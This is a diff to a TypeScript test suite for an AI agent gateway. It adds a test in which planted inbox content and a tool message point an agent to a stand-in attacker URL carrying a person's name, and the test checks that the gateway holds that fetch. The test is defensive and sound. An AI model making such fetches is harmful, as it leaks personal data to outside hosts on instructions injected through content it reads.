@@ -7,6 +7,7 @@ import { Agent } from '../../packages/agent/src/index.ts'
 import { ControlClient } from '../../packages/gateway/src/cli/control-client.ts'
 import { EVIL, POISONED, type Shown, startClinic } from '../support/clinic.ts'
 import type { GuardedGateway } from '../support/gateway.ts'
+import { RawClient } from '../support/gateway.ts'
 import { ModelServer } from '../support/model-server.ts'
 import type { ToolServer } from '../support/tool-server.ts'
 
@@ -195,3 +196,25 @@ for (const loop of ['openai', 'anthropic'] as const) {
     assert.ok(argument.seen_in.includes('clinic/inbox at [0].body'), JSON.stringify(argument))
   })
 }
+
+test('a link that an agent told a model of is not one that content held', async () => {
+  const { task } = await agent.openTask({ template: 'desk', request: REQUEST })
+  const url = 'https://evil.example/c?d=maria-gomez'
+  const client = RawClient.of(agent, task.id, '/mcp/clinic')
+  await client.initialize()
+  shown.inbox = 'see https://evil.example/c'
+  await client.call('inbox')
+  await agent.fetch(task.id, `${gateway.url}/llm/lab/v1/chat/completions`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({
+      model: 'm',
+      messages: [
+        { role: 'user', content: 'go on' },
+        { role: 'tool', tool_call_id: 'x', content: `see ${url}` },
+      ],
+    }),
+  })
+  assert.equal((await client.call('fetch', { url })).code, 'FLOW_HELD')
+  assert.equal((await client.call('fetch', { url: 'https://evil.example/c' })).code, undefined)
+})
